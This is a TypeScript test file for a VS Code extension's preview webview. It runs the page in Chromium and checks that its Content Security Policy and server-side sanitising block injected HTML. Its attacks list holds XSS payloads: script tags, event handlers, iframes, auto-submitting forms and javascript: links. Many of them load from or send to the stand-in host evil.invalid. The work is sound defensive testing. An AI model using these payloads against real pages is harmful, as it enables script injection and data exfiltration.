/** The preview's page in a real Chromium, under the policy it has in VS Code, sent what should never reach it. */
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Uri, Webview } from "vscode";
import { pageHtml } from "../../client/src/preview/pageHtml";
import { preview } from "../../server/src/features/preview";
import { inMeeting } from "../support/findings";
import { viewOf } from "../support/meeting";
import { type PageProbe, pageOrigin, probePage } from "../support/pageProbe";
import { bundle } from "../support/server";
import { openChromium } from "../vscode/harness/chromium.mjs";

const webview = { asWebviewUri: (uri: unknown) => uri } as unknown as Webview;
const files = { "dist/preview.js": bundle("preview.js"), "dist/preview.css": bundle("preview.css") };

let browser: Browser;
beforeAll(async () => {
  browser = await openChromium();
});
afterAll(() => browser.close());

/** The page as the extension makes it, with the editor's side of it played here. */
async function openPage(change: (html: string) => string = (html) => html): Promise<PageProbe> {
  const shell = pageHtml(webview, pageOrigin.slice(0, -1) as unknown as Uri);
  const editor =
    "globalThis.sent = []; globalThis.acquireVsCodeApi = () => ({ postMessage(m) { sent.push(m) }, getState() {}, setState() {} })";
  const nonce = /nonce-([^']+)'/.exec(shell)?.[1] ?? "";
  const played = shell.replace("<body>", `<body><script nonce="${nonce}">${editor}</script>`);
  return probePage(browser, change(played), files);
}

/** Sends the page notes as the extension would, and waits until they are shown. */
async function show({ page }: PageProbe, html: string, places: readonly object[] = []): Promise<void> {
  await page.evaluate(
    ([shown, lines]) =>
      window.postMessage({
        type: "show",
        uri: "file:///a",
        places: lines,
        by: "theme",
        html: `${shown}<p id="end">`,
      }),
    [html, places] as const,
  );
  await page.locator("#end").waitFor({ state: "attached" });
  await page.waitForTimeout(150);
}

/** Without what Chromium says about what it refused. */
const done = ({ forbiddenActions }: PageProbe): readonly string[] =>
  forbiddenActions.filter((deed) => !/^logs .*(Content Security Policy|Content-Security-Policy)/.test(deed));

const attacks: readonly (readonly [string, string])[] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in a picture", "<svg><script>alert(1)</script></svg>"],
  ["a script from elsewhere", '<script src="https://evil.invalid/a.js"></script>'],
  ["a script that guesses a nonce", '<script nonce="">alert(1)</script><script nonce="x">alert(1)</script>'],
  ["a picture that fails", '<img src="x" onerror="alert(1)">'],
  ["a picture that reports its reader", '<img src="https://evil.invalid/pixel.png">'],
  [
    "handlers",
    '<details open ontoggle="alert(1)"><summary>x</summary></details><svg onload="alert(1)"></svg>',
  ],
  ["a handler on focus", '<input autofocus onfocus="alert(1)">'],
  [
    "a frame",
    '<iframe src="https://evil.invalid/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  ["an object", '<object data="https://evil.invalid/a"></object><embed src="https://evil.invalid/b">'],
  ["another base", '<base href="https://evil.invalid/"><img src="a.png">'],
  [
    "a style sheet",
    '<link rel="stylesheet" href="https://evil.invalid/a.css"><style>body { background: url(https://evil.invalid/c) }</style>',
  ],
  ["a style", '<p style="background: url(https://evil.invalid/d)">x</p>'],
  [
    "a font",
    "<style>@font-face { font-family: a; src: url(https://evil.invalid/e) } p { font-family: a }</style>",
  ],
  ["a refresh", '<meta http-equiv="refresh" content="0; url=https://evil.invalid/">'],
  [
    "a look ahead",
    '<link rel="prefetch" href="https://evil.invalid/f"><link rel="dns-prefetch" href="//evil.invalid"><link rel="modulepreload" href="https://evil.invalid/g.js">',
  ],
  [
    "audio and video",
    '<video autoplay src="https://evil.invalid/h"></video><audio autoplay src="https://evil.invalid/i"></audio>',
  ],
  [
    "a form that is sent",
    '<form id="f" action="https://evil.invalid/"><input name="a"></form><svg><animate onbegin="document.getElementById(\'f\').submit()" attributeName="x" dur="1s"/></svg>',
  ],
];

describe("the preview's page", () => {
  it.each(attacks)("neither runs nor loads %s", async (_, html) => {
    const opened = await openPage();
    await show(opened, html);
    expect(done(opened)).toEqual([]);
    expect(opened.page.url()).toBe(pageOrigin);
    await opened.page.close();
  });

  it("does not run what a link says, nor send a form, when they are clicked", async () => {
    const opened = await openPage();
    await show(
      opened,
      '<a id="a" href="javascript:alert(1)">x</a><form action="https://evil.invalid/"><button id="b">x</button></form>',
    );
    for (const id of ["a", "b"]) await opened.page.evaluate((at) => document.getElementById(at)?.click(), id);
    await opened.page.waitForTimeout(150);
    expect(done(opened)).toEqual([]);
    await opened.page.close();
  });

  it("would have been caught, had its policy let them", async () => {
    const open = (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    const names = [
      "a picture that fails",
      "a picture that reports its reader",
      "handlers",
      "a style sheet",
      "a style",
    ];
    for (const [name, html] of attacks.filter(([each]) => names.includes(each))) {
      const opened = await openPage(open);
      await show(opened, html);
      expect([name, done(opened).length > 0]).toEqual([name, true]);
      await opened.page.close();
    }
  });

  it("gets none of it from the server, where titles and notes hold it all", async () => {
    const items = attacks.map(([, html]) => {
      const quoted = JSON.stringify(
        `x ${html} [a](javascript:alert(1)) [c](command:x) ![b](https://evil.invalid/b.png)`,
      );
      return `  - title: ${quoted}\n    notes: ${quoted}\n    themes: none\n`;
    });
    const opened = await openPage((page) =>
      page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ""),
    );
    await show(opened, preview(viewOf(inMeeting(items.join(""))), "theme").html);
    expect(done(opened)).toEqual([]);
    const active = "script, img, iframe, object, embed, form, input, link, style, base, meta, video, audio";
    expect(await opened.page.locator(`main :is(${active})`).count()).toBe(0);
    expect(await opened.page.locator('main a:is([href^="javascript:"], [href^="command:"])').count()).toBe(0);
    await opened.page.close();
  });
});

describe("a double-click in the preview", () => {
  it.each([
    [
      "an item of a session",
      "  - title: B\n    session: Storage\n    themes: none\n    notes: The words of B\n",
    ],
    ["an item outside of sessions", "  - title: B\n    themes: none\n    notes: The words of B\n"],
  ])("leads to %s", async (_, item) => {
    const text = inMeeting(
      `  - title: A\n    session: Storage\n    themes: none\n    notes: The words of A\n${item}`,
    );
    const { html, places } = preview(viewOf(text), "agenda");
    const probe = await openPage();
    await show(probe, html, places);
    await probe.page.getByText("The words of B").dblclick();
    const sent = await probe.page.evaluate<readonly { type: string; line?: number }[]>("sent");
    const line = text.split("\n").indexOf("  - title: B");
    expect(sent.filter(({ type }) => type === "goTo")).toEqual([{ type: "goTo", line }]);
    await probe.page.close();
  });
});
